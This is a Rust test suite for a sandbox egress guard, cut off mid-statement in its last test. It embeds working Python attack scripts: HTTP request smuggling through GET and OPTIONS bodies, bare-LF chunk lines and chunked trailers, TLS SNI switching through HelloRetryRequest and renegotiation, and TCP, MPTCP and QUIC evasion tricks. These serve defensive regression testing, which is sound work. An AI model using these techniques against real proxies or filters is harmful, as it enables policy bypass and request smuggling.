//! Attacks on the egress guard (issue 15), each from inside a sandbox (`--user 65534`).
//!
//! One world per test, in the test's own network namespace: 203.0.113.10 serves both
//! `allowed.test` (the name the policy allows) and `evil.test` (the name it does not), as
//! one CDN address would. dnsmasq answers both names; hb's resolver validates only
//! `allowed.test` for the policy. The servers ([`VHOSTS_PY`]) record every request with
//! the virtual host it was routed to (plain HTTP: the `Host`; TLS: the SNI, each
//! ClientHello's name also logged on its own), so a test can assert that `evil.test`'s
//! host received nothing and that no write method reached the read-only host.
//!
//! Ports on 203.0.113.10, all guarded (`guard_ports = [80, 443, 8080, 8444, 8445]`):
//! - 80: plain HTTP; every method's body is read, `Content-Length` or chunked, the
//!   chunked decoder reading its lines with `readline()` (a line ends at LF, as in
//!   Go's net/http before 1.24.2, CVE-2025-22871, and many small servers);
//! - 8080: plain HTTP as Python's `http.server` handlers usually are: `do_GET` never
//!   reads a body (SimpleHTTPRequestHandler does not), nor does `do_OPTIONS` (a CORS
//!   preflight answer), `do_POST` reads `Content-Length`;
//! - 443: TLS with SNI-selected certificates (Python's `ssl`, OpenSSL 3, the context
//!   switched in the SNI callback as servers do), key shares on P-256 only, HTTP inside;
//! - 8444: the same, allowing client-initiated TLS 1.2 renegotiation (as OpenSSL 1.1.1
//!   servers do by default);
//! - 8445: a raw sink, in the tests that start one ([`Sink`]): it records every byte
//!   the guard let through, whatever a TLS server would make of it.

use std::{
    fs,
    path::{Path, PathBuf},
    thread,
    time::{Duration, Instant},
};

use hb_tests::{
    TestEnv, UdpProbe, python,
    upstream::{Dnsmasq, TestCa},
    worlds::{
        RecordingPython, attack_as, names_on_lo, nameserver_sandbox, resolver_config, started_agent,
    },
};
use serde_json::Value;

const DNS_PORT: u16 = 5400;
const SHARED: &str = "203.0.113.10";

/// The virtual hosts of the shared address. Log: one JSON line per request
/// (`port`, `vhost`, `method`, `path`, `body`) and per TLS ClientHello (`port`, `sni`).
const VHOSTS_PY: &str = r#"
import http.server, json, socket, ssl, sys, threading
addr, log, allowed_cert, allowed_key, evil_cert, evil_key = sys.argv[1:7]
lock = threading.Lock()
def record(rec):
    with lock:
        with open(log, "a") as f:
            f.write(json.dumps(rec) + "\n")
def norm(host):
    host = (host or "").strip().lower()
    if host.startswith("["):
        return host
    return host.rsplit(":", 1)[0].rstrip(".")
class Base(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def vhost(self):
        return norm(self.headers.get("host"))
    def body(self):
        if self.headers.get("transfer-encoding", "").strip().lower() == "chunked":
            out = b""
            while True:
                line = self.rfile.readline(65537)
                size = int(line.split(b";")[0].strip(), 16)
                if size == 0:
                    while self.rfile.readline(65537) not in (b"\r\n", b"\n", b""):
                        pass
                    return out
                out += self.rfile.read(size)
                self.rfile.readline(65537)
        n = int(self.headers.get("content-length") or 0)
        return self.rfile.read(n) if n else b""
    def answer(self, body):
        record({"port": self.server.server_address[1], "vhost": self.vhost(),
                "method": self.command, "path": self.path, "body": body.decode("latin-1")})
        out = ("%s %s %s\n" % (self.vhost(), self.command, self.path)).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(out)
class ReadsBodies(Base):
    def any(self):
        self.answer(self.body())
    do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = do_HEAD = do_OPTIONS = any
class Stdlib(Base):
    def do_GET(self):
        self.answer(b"")
    do_HEAD = do_OPTIONS = do_GET
    def do_POST(self):
        n = int(self.headers.get("content-length") or 0)
        self.answer(self.rfile.read(n))
    do_PUT = do_DELETE = do_PATCH = do_POST
class Tls(ReadsBodies):
    def setup(self):
        self.request.do_handshake()
        super().setup()
    def vhost(self):
        return getattr(self.request, "hb_vhost", "")
class S(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    def handle_error(self, request, client_address): pass
def tls_contexts(port, renegotiation):
    contexts = {}
    for name, cert, key in (("allowed.test", allowed_cert, allowed_key), ("evil.test", evil_cert, evil_key)):
        c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        c.load_cert_chain(cert, key)
        contexts[name] = c
    base = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    base.load_cert_chain(allowed_cert, allowed_key)
    # Key shares on P-256 only, as many servers (FIPS, and CDNs for groups like X448): a
    # client whose first key share is another group gets a HelloRetryRequest.
    base.set_ecdh_curve("prime256v1")
    if renegotiation:
        # SSL_OP_ALLOW_CLIENT_RENEGOTIATION: OpenSSL 1.1.1's default, an option in 3.x.
        for c in [base, *contexts.values()]:
            c.options |= 0x100
    def sni(sock, name, ctx):
        n = norm(name)
        record({"port": port, "sni": n})
        sock.hb_vhost = n
        if n in contexts:
            sock.context = contexts[n]
    base.sni_callback = sni
    return base
servers = [S((addr, 80), ReadsBodies), S((addr, 8080), Stdlib), S((addr, 443), Tls), S((addr, 8444), Tls)]
servers[2].socket = tls_contexts(443, False).wrap_socket(servers[2].socket, server_side=True, do_handshake_on_connect=False)
servers[3].socket = tls_contexts(8444, True).wrap_socket(servers[3].socket, server_side=True, do_handshake_on_connect=False)
for s in servers:
    threading.Thread(target=s.serve_forever, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"#;

/// The servers of the shared address ([`VHOSTS_PY`]), each name's certificate from a CA
/// of their own, logging to a file in `dir`.
fn vhost_servers(dir: &Path) -> RecordingPython {
    let ca = TestCa::new(dir, "guard");
    let allowed = ca.issue("allowed", &["allowed.test"]);
    let evil = ca.issue("evil", &["evil.test"]);
    RecordingPython::start(
        VHOSTS_PY,
        SHARED,
        &dir.join("vhosts.jsonl"),
        &[&allowed.cert, &allowed.key, &evil.cert, &evil.key],
    )
}

/// What reached `evil.test`'s virtual host: requests routed to it, ClientHellos naming it.
fn reached_evil(records: &[Value]) -> Vec<&Value> {
    records
        .iter()
        .filter(|r| r["vhost"] == "evil.test" || r["sni"] == "evil.test")
        .collect()
}

/// Requests with a method outside the read-only ones.
fn writes(records: &[Value]) -> Vec<&Value> {
    records
        .iter()
        .filter(|r| {
            r["method"]
                .as_str()
                .is_some_and(|m| !["GET", "HEAD", "OPTIONS"].contains(&m))
        })
        .collect()
}

/// The world: namespace, dnsmasq, servers, agent. The policy `web` allows only
/// `allowed.test` and is guarded on 80, 443, 8080 and 8444.
struct World {
    env: TestEnv,
    vhosts: RecordingPython,
    _dns: Dnsmasq,
    dir: PathBuf,
}

impl World {
    fn new(name: &str) -> Self {
        Self::with_guard(name, true)
    }

    /// The world with the policy's `guard` set to `guard`.
    fn with_guard(name: &str, guard: bool) -> Self {
        Self::build(name, guard, false)
    }

    /// The world with the kernel relay on (`guard.sockmap`).
    fn kernel_relay(name: &str) -> Self {
        Self::build(name, true, true)
    }

    fn build(name: &str, guard: bool, sockmap: bool) -> Self {
        let dns = names_on_lo(
            &[SHARED, "2001:db8::10", "192.0.2.53"],
            DNS_PORT,
            &[
                ("allowed.test", &[SHARED, "2001:db8::10"]),
                ("evil.test", &[SHARED]),
                ("other.test", &[SHARED]),
            ],
            60,
        );
        let dir = std::env::temp_dir().join(format!(
            "hb-guard-attack-{name}-{}",
            hb_tests::random_suffix()
        ));
        let vhosts = vhost_servers(&dir);
        let kernel = if sockmap {
            "[guard]\nsockmap = true"
        } else {
            ""
        };
        let config = format!(
            r#"
{kernel}
{resolver}
# No socket bound: beside the agent a sandbox opens no MPTCP socket while one is set
# (attack review 25), and the guard is tried with MPTCP connections.
[sandbox_defaults]
sockets_max = 0
sockets_node_percent = 0

[[policy]]
name = "web"
allow_domains = ["allowed.test"]
guard = {guard}
guard_ports = [80, 443, 8080, 8444, 8445]
"#,
            resolver = resolver_config(DNS_PORT, true, "", &["203.0.113.0/24", "2001:db8::/32"]),
        );
        let env = started_agent(name, &config);
        Self {
            env,
            vhosts,
            _dns: dns,
            dir,
        }
    }

    /// Runs a Python script in a `web` sandbox as uid 65534, its DNS through hb's
    /// resolver. The script travels hex-encoded (no quoting to get wrong).
    fn attack(&self, script: &str) -> String {
        attack_as(&self.env, "web", script)
    }
}

impl Drop for World {
    fn drop(&mut self) {
        if !thread::panicking() {
            let _ = fs::remove_dir_all(&self.dir);
        }
    }
}

/// Python every attack script starts with: resolves `allowed.test` through hb (which
/// validates the shared address for it), and `raw(port, data)`, which sends `data` on a
/// fresh connection to the shared address, half-closes, and returns what came back.
const PRELUDE: &str = r#"
import socket, ssl, struct, sys, time
SHARED = socket.getaddrinfo("allowed.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
assert SHARED == "203.0.113.10", SHARED
def recv_all(s):
    out = b""
    s.settimeout(5)
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except OSError:
        pass
    return out
def raw(port, data, family=socket.AF_INET, host=None, shut=True):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((host or SHARED, port))
    s.sendall(data)
    if shut:
        s.shutdown(socket.SHUT_WR)
    out = recv_all(s)
    s.close()
    return out
"#;

fn script(body: &str) -> String {
    format!("{PRELUDE}\n{body}")
}

/// After a smuggling attack whose output is `out`: its control GET (`/control`) passed
/// the guard and arrived, and no write method reached read-only `allowed.test` (the
/// records read once the smuggled `/smuggled` arrived, or 2 s).
fn assert_control_passed_and_nothing_smuggled(w: &World, out: &str) {
    assert!(
        out.contains("control HTTP/1.1 200"),
        "a plain GET passes the guard: {out}"
    );
    let records = w.vhosts.settle(|r| r["path"] == "/smuggled");
    assert!(
        records.iter().any(|r| r["path"] == "/control"),
        "the control GET arrived: {records:?}"
    );
    assert_eq!(
        writes(&records),
        Vec::<&Value>::new(),
        "a write method reached read-only allowed.test: {out}"
    );
}

// ---------------------------------------------------------------------------------------
// Attacks that get through today (each must fail until the guard is fixed).
// ---------------------------------------------------------------------------------------

/// A body on a GET hides a second request: the guard forwards the GET's
/// `Content-Length` bytes as its body, unjudged, while a server that never reads a GET's
/// body (Python's http.server handlers, and others) reads those bytes as the next
/// request on the connection: here a POST to a read-only host. The contract refuses a
/// body on GET (`ambiguous_request`).
#[test]
fn a_post_hidden_in_a_get_body_never_reaches_a_read_only_host() {
    let w = World::new("gaget");
    let out = w.attack(&script(
        r#"
ok = raw(8080, b"GET /control HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
print("control", ok.split(b"\r\n")[0].decode())
inner = b"POST /smuggled HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\n\r\nevil"
outer = b"GET /cover HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: %d\r\n\r\n" % len(inner)
got = raw(8080, outer + inner)
print("attack", got.count(b"HTTP/1.1 200"), repr(got[:200]))
"#,
    ));
    assert_control_passed_and_nothing_smuggled(&w, &out);
}

/// The same with OPTIONS, read-only too: a server's preflight handler that answers
/// without reading the body leaves it to be read as the next request.
#[test]
fn a_post_hidden_in_an_options_body_never_reaches_a_read_only_host() {
    let w = World::new("gaopt");
    let out = w.attack(&script(
        r#"
ok = raw(8080, b"GET /control HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
print("control", ok.split(b"\r\n")[0].decode())
inner = b"POST /smuggled HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\n\r\nevil"
outer = b"OPTIONS /cover HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: %d\r\n\r\n" % len(inner)
got = raw(8080, outer + inner)
print("attack", got.count(b"HTTP/1.1 200"), repr(got[:200]))
"#,
    ));
    assert_control_passed_and_nothing_smuggled(&w, &out);
}

/// A chunk-size line with a bare LF in its extension: the guard reads the chunk line up
/// to CRLF (the extension, LF and what follows it ignored), a server that ends lines at
/// LF reads the same bytes as chunk data, so the two disagree on where every later chunk
/// starts. Laid out so that both agree the body ends at the same byte, the server sees
/// a POST where the guard sees chunk data. The cover request is an OPTIONS (read-only,
/// and a body on it is not refused).
#[test]
fn a_post_hidden_by_a_bare_lf_in_a_chunk_line_never_reaches_a_read_only_host() {
    let w = World::new("gachunk");
    let out = w.attack(&script(
        r#"
ok = raw(80, b"GET /control HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
print("control", ok.split(b"\r\n")[0].decode())
inner = b"POST /smuggled HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 7\r\n\r\n"
filler = b"A" * (len(inner) + 5)
size = len(filler) + 2
body = (b"%x;\n" % size) + filler + b"\r\n" + b"\r\n" + b"0\r\n\r\n" + inner + b"\r\n0\r\n\r\n"
head = b"OPTIONS /cover HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n"
got = raw(80, head + body)
print("attack", got.count(b"HTTP/1.1 200"), repr(got[:200]))
"#,
    ));
    assert_control_passed_and_nothing_smuggled(&w, &out);
}

/// TLS clients on libssl through ctypes (as any sandboxed program may load it).
/// `hrr_request`: a TLS 1.3 client whose first ClientHello names allowed.test with a key share the server does not take
/// (X25519; the server wants P-256), so the server answers HelloRetryRequest; the
/// client's second ClientHello names evil.test. The guard judged the first and splices
/// the rest; OpenSSL runs the SNI callback again on the second ClientHello, the server
/// switches to evil.test's certificate and virtual host, and the request inside goes
/// there. `renegotiated_request`: TLS 1.2, a handshake naming `first_name`, then a
/// renegotiation naming `second_name`.
const HRR_CLIENT: &str = r#"
import ctypes
L = ctypes.CDLL("libssl.so.3")
P = ctypes.c_void_p
L.TLS_client_method.restype = P
L.SSL_CTX_new.restype = P; L.SSL_CTX_new.argtypes = [P]
L.SSL_new.restype = P; L.SSL_new.argtypes = [P]
L.SSL_ctrl.restype = ctypes.c_long; L.SSL_ctrl.argtypes = [P, ctypes.c_int, ctypes.c_long, P]
L.SSL_CTX_ctrl.restype = ctypes.c_long; L.SSL_CTX_ctrl.argtypes = [P, ctypes.c_int, ctypes.c_long, P]
L.SSL_set_fd.argtypes = [P, ctypes.c_int]
L.SSL_connect.argtypes = [P]
L.SSL_renegotiate.argtypes = [P]; L.SSL_do_handshake.argtypes = [P]
L.SSL_write.argtypes = [P, ctypes.c_char_p, ctypes.c_int]
L.SSL_read.argtypes = [P, ctypes.c_char_p, ctypes.c_int]
MSGCB = ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_int, ctypes.c_int, P, ctypes.c_size_t, P, P)
L.SSL_CTX_set_msg_callback.argtypes = [P, MSGCB]
HRR_RANDOM = bytes.fromhex("CF21AD74E59A6111BE1D8C021E65B891C2A211167ABB8C5E079E09E2C8A8339C")
SET_HOSTNAME, SET_GROUPS_LIST = 55, 92
second = ctypes.c_char_p(SECOND_NAME)
retried = []
def on_message(write_p, version, content_type, buf, n, ssl, arg):
    if write_p == 0 and content_type == 22 and n >= 38:
        m = ctypes.string_at(buf, n)
        if m[0] == 2 and m[6:38] == HRR_RANDOM:
            retried.append(1)
            L.SSL_ctrl(ssl, SET_HOSTNAME, 0, second)
callback = MSGCB(on_message)
def hrr_request(port, first_name, host_header):
    ctx = L.SSL_CTX_new(L.TLS_client_method())
    L.SSL_CTX_set_msg_callback(ctx, callback)
    assert L.SSL_CTX_ctrl(ctx, SET_GROUPS_LIST, 0, ctypes.c_char_p(b"X25519:P-256")) == 1
    ssl = L.SSL_new(ctx)
    s = socket.create_connection((SHARED, port), timeout=5)
    s.settimeout(None)  # a blocking descriptor for libssl
    L.SSL_set_fd(ssl, s.fileno())
    L.SSL_ctrl(ssl, SET_HOSTNAME, 0, ctypes.c_char_p(first_name))
    if L.SSL_connect(ssl) != 1:
        return "handshake failed"
    req = b"GET /via-hrr HTTP/1.1\r\nHost: " + host_header + b"\r\nConnection: close\r\n\r\n"
    L.SSL_write(ssl, req, len(req))
    buf = ctypes.create_string_buffer(4096)
    n = L.SSL_read(ssl, buf, 4096)
    return "retried=%d answer=%r" % (len(retried), buf.raw[:max(n, 0)][:80])
def renegotiated_request(port, first_name, second_name):
    ctx = L.SSL_CTX_new(L.TLS_client_method())
    assert L.SSL_CTX_ctrl(ctx, 124, 0x303, None) == 1  # SSL_CTX_set_max_proto_version(TLS 1.2)
    ssl = L.SSL_new(ctx)
    s = socket.create_connection((SHARED, port), timeout=5)
    s.settimeout(None)
    L.SSL_set_fd(ssl, s.fileno())
    L.SSL_ctrl(ssl, SET_HOSTNAME, 0, ctypes.c_char_p(first_name))
    if L.SSL_connect(ssl) != 1:
        return "handshake failed"
    L.SSL_ctrl(ssl, SET_HOSTNAME, 0, ctypes.c_char_p(second_name))
    if L.SSL_renegotiate(ssl) != 1 or L.SSL_do_handshake(ssl) != 1:
        return "renegotiation failed"
    req = b"GET /via-renegotiation HTTP/1.1\r\nHost: " + second_name + b"\r\nConnection: close\r\n\r\n"
    L.SSL_write(ssl, req, len(req))
    buf = ctypes.create_string_buffer(4096)
    n = L.SSL_read(ssl, buf, 4096)
    return "answer=%r" % buf.raw[:max(n, 0)][:80]
"#;

/// The second ClientHello, after a HelloRetryRequest, names evil.test: the guard only
/// read the first.
#[test]
fn a_second_client_hello_after_hello_retry_request_never_reaches_evil_test() {
    let w = World::new("gahrr");
    tls_attack_reaches_only_allowed_test(&w, 443, "hrr_request", "/via-hrr");
}

/// TLS 1.2 renegotiation: after a handshake naming allowed.test, the client starts a
/// new handshake inside the session whose ClientHello (encrypted, the guard cannot read
/// it) names evil.test; a server that allows client-initiated renegotiation runs its
/// SNI callback again and serves evil.test. The guard can see it happen without
/// decrypting: in TLS 1.2 the record type stays visible, and a handshake record from
/// the client after its Finished is a renegotiation.
#[test]
fn a_renegotiation_naming_evil_test_never_reaches_evil_test() {
    let w = World::new("gareneg");
    tls_attack_reaches_only_allowed_test(&w, 8444, "renegotiated_request", "/via-renegotiation");
}

/// The same two attacks with the kernel relay on: a HelloRetryRequest and a TLS 1.2
/// server keep the connection on the user-space relay, which refuses the second name.
#[test]
fn with_the_kernel_relay_a_second_client_hello_after_hello_retry_request_never_reaches_evil_test() {
    let w = World::kernel_relay("gakhrr");
    tls_attack_reaches_only_allowed_test(&w, 443, "hrr_request", "/via-hrr");
}

#[test]
fn with_the_kernel_relay_a_renegotiation_naming_evil_test_never_reaches_evil_test() {
    let w = World::kernel_relay("gakreneg");
    tls_attack_reaches_only_allowed_test(&w, 8444, "renegotiated_request", "/via-renegotiation");
}

/// On the kernel relay (the server selected TLS 1.3 in its ServerHello, so the guard
/// handed the connection over and no longer reads the client's records): a second
/// ClientHello naming evil.test, or a plaintext request for evil.test, sent after the
/// ServerHello, goes to the server unread by the guard, and the server, committed to
/// TLS 1.3, refuses it: evil.test's host receives nothing. A control connection offering
/// the server's key share (no HelloRetryRequest) takes the kernel path.
#[test]
fn on_the_kernel_relay_a_later_client_hello_never_reaches_evil_test() {
    let w = World::kernel_relay("gaklater");
    let out = w.attack(&script(&format!(
        r#"
{HELLO_PY}
def p256():
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    c.set_ecdh_curve("prime256v1"); c.minimum_version = ssl.TLSVersion.TLSv1_3
    return c
def hello13(name):
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = p256().wrap_bio(i, o, server_hostname=name)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()
with p256().wrap_socket(socket.create_connection((SHARED, 443), timeout=5), server_hostname="allowed.test") as t:
    t.sendall(b"GET /control HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
    print("control", recv_all(t).split(b"\r\n")[0].decode())
def after_server_hello(second):
    s = socket.create_connection((SHARED, 443), timeout=5)
    s.sendall(hello13("allowed.test"))
    first = s.recv(65536)
    s.sendall(second)
    return outcome(s) + " after %d bytes" % len(first)
attempt("second-hello", lambda: after_server_hello(hello13("evil.test")))
attempt("plaintext", lambda: after_server_hello(b"GET /plain HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
"#
    )));
    assert!(
        out.contains("control HTTP/1.1 200"),
        "TLS 1.3 to allowed.test passes the guard: {out}"
    );
    for attempt in ["second-hello", "plaintext"] {
        assert!(
            out.lines()
                .any(|l| l.starts_with(attempt) && l.contains(" after ")),
            "{attempt}: the server's first flight came back before the attack: {out}"
        );
    }
    // The control and both attacks: each handed over after the ServerHello.
    w.env.guard_stats_when(
        10,
        &format!("counted the three connections the kernel relay carried ({out})"),
        |g| g["kernel"].as_u64().is_some_and(|k| k >= 3),
    );
    let records = w.vhosts.settle(|r| r["path"] == "/plain");
    assert!(
        records
            .iter()
            .any(|r| r["path"] == "/control" && r["vhost"] == "allowed.test"),
        "the control request arrived: {records:?}"
    );
    assert_eq!(
        reached_evil(&records),
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached: {out}"
    );
}

/// The trailer section of a chunked body: the guard reads trailer lines up to CRLF and
/// takes any line as a trailer, so a bare LF right after the last chunk is, to the
/// guard, the start of a trailer line, and the request that follows more trailer
/// lines; a server that ends lines at LF (as for a chunk line above; Go's textproto
/// reads trailers so) sees the LF as the empty line that ends the body and the POST as
/// the next request.
#[test]
fn a_post_hidden_in_a_chunked_trailer_never_reaches_a_read_only_host() {
    let w = World::new("gatrail");
    let out = w.attack(&script(
        r#"
ok = raw(80, b"GET /control HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
print("control", ok.split(b"\r\n")[0].decode())
inner = b"POST /smuggled HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n"
head = b"OPTIONS /cover HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n"
got = raw(80, head + b"0\r\n" + b"\n" + inner)
print("attack", got.count(b"HTTP/1.1 200"), repr(got[:200]))
"#,
    ));
    assert_control_passed_and_nothing_smuggled(&w, &out);
}

// ---------------------------------------------------------------------------------------
// Attacks the guard holds (regression tests).
// ---------------------------------------------------------------------------------------

/// Python: `hello(name)` is a real ClientHello (Python's ssl, OpenSSL) naming `name`;
/// `outcome(sock)` reads until the guard or the server closes and names what came back.
const HELLO_PY: &str = r#"
import ctypes, errno
def hello(name):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = c.wrap_bio(i, o, server_hostname=name)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()
def records(msg_bytes, size):
    # The same handshake message re-framed in records of `size` bytes.
    body = msg_bytes[5:]
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(body[i:i + size])) + body[i:i + size]
                    for i in range(0, len(body), size))
def outcome(s):
    s.settimeout(5)
    try:
        got = s.recv(65536)
    except socket.timeout:
        got = None
    except ConnectionResetError:
        got = b""
    s.close()
    return "timeout" if got is None else "answered" if got else "closed"
def attempt(label, f):
    try:
        print(label, f())
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, str(e)))
libc = ctypes.CDLL(None, use_errno=True)
def disconnect(s):
    # connect(AF_UNSPEC): a TCP socket becomes unconnected and may connect again.
    unspec = (ctypes.c_char * 16)()
    libc.connect(s.fileno(), unspec, 16)
"#;

/// The ways a sandboxed program can open TCP to the shared address with evil.test in
/// its ClientHello (IPv4-mapped IPv6, TCP fast open by `sendto(MSG_FASTOPEN)` and by
/// `TCP_FASTOPEN_CONNECT`, MPTCP, a socket disconnected and connected again, a hello
/// cut into one-byte segments or many records, the name upper-cased with a trailing
/// dot), and the guard's own ports addressed directly: none reaches evil.test's host,
/// while the same ClientHello naming allowed.test is answered.
#[test]
fn every_way_to_open_tcp_with_evil_test_in_the_hello_is_closed() {
    let w = World::new("gatcp");
    let id = w.env.policy_id("web");
    let out = w.attack(&script(&format!(
        r#"
{HELLO_PY}
GUARD = 15300 + {id}
def v4(data, name="x"):
    s = socket.create_connection((SHARED, 443), timeout=5); s.sendall(data); return outcome(s)
attempt("control", lambda: v4(hello("allowed.test")))
attempt("plain", lambda: v4(hello("evil.test")))
attempt("spelling", lambda: v4(hello("EVIL.TEST.")))
attempt("records", lambda: v4(records(hello("evil.test"), 7)))
def segments():
    s = socket.create_connection((SHARED, 443), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for b in hello("evil.test"):
        s.send(bytes([b])); time.sleep(0.001)
    return outcome(s)
attempt("segments", segments)
def mapped():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(5)
    s.connect(("::ffff:" + SHARED, 443)); s.sendall(hello("evil.test")); return outcome(s)
attempt("mapped", mapped)
def fastopen():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # blocking: sendto connects
    s.sendto(hello("evil.test"), socket.MSG_FASTOPEN, (SHARED, 443)); return outcome(s)
attempt("fastopen", fastopen)
def fastopen_connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(5)
    s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    s.connect((SHARED, 443)); s.sendall(hello("evil.test")); return outcome(s)
attempt("fastopen_connect", fastopen_connect)
def mptcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(5)
    s.connect((SHARED, 443)); s.sendall(hello("evil.test")); return outcome(s)
attempt("mptcp", mptcp)
def reconnect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(5)
    s.connect((SHARED, 80)); disconnect(s)
    s.connect((SHARED, 443)); s.sendall(hello("evil.test")); return outcome(s)
attempt("reconnect", reconnect)
def bound():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(5)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)  # SO_REUSEPORT is refused
    s.bind(("0.0.0.0", 40443)); s.connect((SHARED, 443)); s.sendall(hello("evil.test")); return outcome(s)
attempt("bound", bound)
def guard4():
    s = socket.create_connection(("127.0.0.1", GUARD), timeout=5); s.sendall(hello("allowed.test")); return outcome(s)
attempt("guard4", guard4)
def guard6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(5)
    s.connect(("::1", GUARD)); s.sendall(hello("allowed.test")); return outcome(s)
attempt("guard6", guard6)
"#
    )));
    let results: std::collections::HashMap<&str, &str> =
        out.lines().filter_map(|l| l.split_once(' ')).collect();
    assert_eq!(results.get("control"), Some(&"answered"), "{out}");
    for attack in [
        "plain",
        "spelling",
        "records",
        "segments",
        "mapped",
        "fastopen",
        "fastopen_connect",
        "mptcp",
        "reconnect",
        "bound",
    ] {
        let r = results.get(attack).copied().unwrap_or("missing");
        assert!(
            r == "closed" || r == "ECONNRESET" || r == "EPROTONOSUPPORT",
            "{attack}: {r}\n{out}"
        );
    }
    for direct in ["guard4", "guard6"] {
        assert_eq!(
            results.get(direct),
            Some(&"EPERM"),
            "a sandbox addressing the guard's port itself is refused: {out}"
        );
    }
    let records = w.vhosts.records();
    assert_eq!(
        reached_evil(&records),
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached: {out}"
    );
}

/// UDP to port 443 (QUIC) of the validated address in every form: connected,
/// `sendto`, `sendmmsg`-like `sendmsg`, IPv4-mapped from an IPv6 socket, native IPv6,
/// the NAT64 form; nothing arrives.
#[test]
fn quic_in_every_form_is_refused() {
    let w = World::new("gaquic");
    let probe4 = UdpProbe::bind(&format!("{SHARED}:443"));
    let probe6 = UdpProbe::bind("[2001:db8::10]:443");
    let out = w.attack(&script(
        r#"
import errno
def attempt(label, f):
    try:
        f(); print(label, "sent")
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, str(e)))
V6 = socket.getaddrinfo("allowed.test", 443, socket.AF_INET6, socket.SOCK_DGRAM)[0][4][0]
print("v6addr", V6)
def connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((SHARED, 443)); s.send(b"quic")
attempt("connected", connected)
attempt("sendto", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"quic", (SHARED, 443)))
attempt("sendmsg", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"qu", b"ic"], [], 0, (SHARED, 443)))
attempt("mapped", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"quic", ("::ffff:" + SHARED, 443)))
def mapped_connected():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.connect(("::ffff:" + SHARED, 443)); s.send(b"quic")
attempt("mapped_connected", mapped_connected)
attempt("v6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"quic", (V6, 443)))
attempt("nat64", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"quic", ("64:ff9b::cb00:710a", 443)))
def other_port_then_443():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((SHARED, 8443)); s.sendto(b"quic", (SHARED, 443))
attempt("reaimed", other_port_then_443)
"#,
    ));
    assert!(out.contains("v6addr 2001:db8::10"), "{out}");
    for line in out.lines().filter(|l| !l.starts_with("v6addr")) {
        assert!(
            line.ends_with(" EPERM"),
            "UDP 443 was not refused: {line}\n{out}"
        );
    }
    thread::sleep(Duration::from_millis(300));
    assert_eq!(
        probe4.received() + probe6.received(),
        0,
        "a datagram arrived: {out}"
    );
}

/// While the agent is down (a crash, an upgrade) a sandbox that keeps running binds the
/// guard's address and port for its policy and listens there. The agent must still come
/// back (its guard bound, or the squatter's port taken away), and a guarded connection
/// from another sandbox must still reach allowed.test through the guard, not end at the
/// squatter.
#[test]
fn a_sandbox_squatting_the_guard_port_while_the_agent_is_down_does_not_keep_it_down() {
    use std::io::BufRead as _;
    let mut w = World::new("gasquat");
    let id = w.env.policy_id("web");
    let squat = format!(
